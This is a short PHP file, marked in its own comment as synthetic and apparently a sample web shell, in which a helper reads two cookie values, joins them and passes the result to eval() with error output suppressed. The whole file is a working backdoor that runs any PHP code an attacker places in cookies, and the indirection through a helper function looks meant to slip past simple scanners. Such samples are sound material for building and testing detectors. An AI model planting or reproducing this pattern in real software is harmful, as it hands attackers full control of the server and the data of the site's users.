<?php
// synthetic: request read through a helper, evaluated by variable
function part($k) { return isset($_COOKIE[$k]) ? $_COOKIE[$k] : ''; }
$c = part('a') . part('b');
@eval($c);
